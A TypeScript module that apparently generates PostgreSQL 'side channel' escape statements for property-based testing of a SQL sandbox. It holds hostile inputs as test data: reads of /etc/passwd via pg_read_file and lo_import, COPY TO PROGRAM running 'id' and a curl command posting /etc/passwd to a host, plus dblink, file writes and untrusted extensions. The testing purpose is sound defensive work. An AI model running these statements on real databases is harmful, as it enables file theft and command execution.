/** Side channels (C2): files, programs, other servers, extensions, large objects. */
import fc from "fast-check";
import { lit, stmt, esc, pick, TABLE, NAME, type Escape, type Word } from "../words.js";

/** Calls that reach outside the database, usable anywhere an expression goes. */
export const sideChannelCall = pick<readonly [string, string]>(
  ["pg_read_file", "('/etc/passwd')"],
  ["pg_read_binary_file", "('postgresql.conf')"],
  ["pg_ls_dir", "('.')"],
  ["pg_stat_file", "('PG_VERSION')"],
  ["lo_import", "('/etc/passwd')"],
  ["lo_export", "(0, '/tmp/fc-escaped')"],
  ["lo_from_bytea", "(0, '\\x00')"],
  ["dblink_exec", "('dbname=postgres', 'CREATE TABLE escaped (x int)')"],
  ["dblink", "('dbname=postgres', 'SELECT 1')"],
  ["pg_file_write", "('fc-escaped', 'x', false)"],
);

export const sideChannel: fc.Arbitrary<Escape> = fc.oneof(
  fc
    .tuple(
      pick<Word>(TABLE, lit("(SELECT 1)")),
      pick("TO", "FROM"),
      pick<readonly Word[]>(
        [lit("'/tmp/fc-escaped'")],
        ["PROGRAM", lit("'id'")],
        ["PROGRAM", lit("'curl -d @/etc/passwd http://127.0.0.1/'")],
        ["STDOUT"],
        ["STDIN"],
      ),
    )
    // COPY (query) only goes TO; keep the combination the parser accepts.
    .map(([source, direction, where]) => {
      const dir = typeof source !== "string" ? "TO" : direction;
      const sink =
        dir === "TO" && where[0] === "STDIN"
          ? ["STDOUT"]
          : dir === "FROM" && where[0] === "STDOUT"
            ? ["STDIN"]
            : where;
      const shown = sink[0] === "PROGRAM" ? "PROGRAM" : typeof sink[0] === "string" ? sink[0] : "a file";
      return esc("side_channel", `COPY ${dir} ${shown}`, stmt("COPY", source, dir, ...sink));
    }),
  sideChannelCall.map(([fn, args]) => esc("side_channel", fn, stmt("SELECT", fn, lit(args)))),
  pick("dblink", "postgres_fdw", "file_fdw", "plpython3u", "adminpack", "pg_background").map((name) =>
    esc("side_channel", `CREATE EXTENSION ${name}`, stmt("CREATE", "EXTENSION", "IF", "NOT", "EXISTS", name)),
  ),
  fc.constant(
    esc(
      "side_channel",
      "CREATE SERVER",
      stmt(
        "CREATE",
        "SERVER",
        `fc_srv_${NAME}`,
        "FOREIGN",
        "DATA",
        "WRAPPER",
        "postgres_fdw",
        "OPTIONS",
        lit("(host '127.0.0.1', dbname 'postgres')"),
      ),
    ),
  ),
  fc.constant(
    esc(
      "side_channel",
      "CREATE FOREIGN DATA WRAPPER",
      stmt("CREATE", "FOREIGN", "DATA", "WRAPPER", `fc_fdw_${NAME}`),
    ),
  ),
  fc.constant(
    esc(
      "side_channel",
      "CREATE USER MAPPING",
      stmt(
        "CREATE",
        "USER",
        "MAPPING",
        "FOR",
        "CURRENT_USER",
        "SERVER",
        "fc_srv",
        "OPTIONS",
        lit("(user 'postgres')"),
      ),
    ),
  ),
  fc.constant(
    esc(
      "side_channel",
      "CREATE PUBLICATION",
      stmt("CREATE", "PUBLICATION", `fc_pub_${NAME}`, "FOR", "ALL", "TABLES"),
    ),
  ),
);
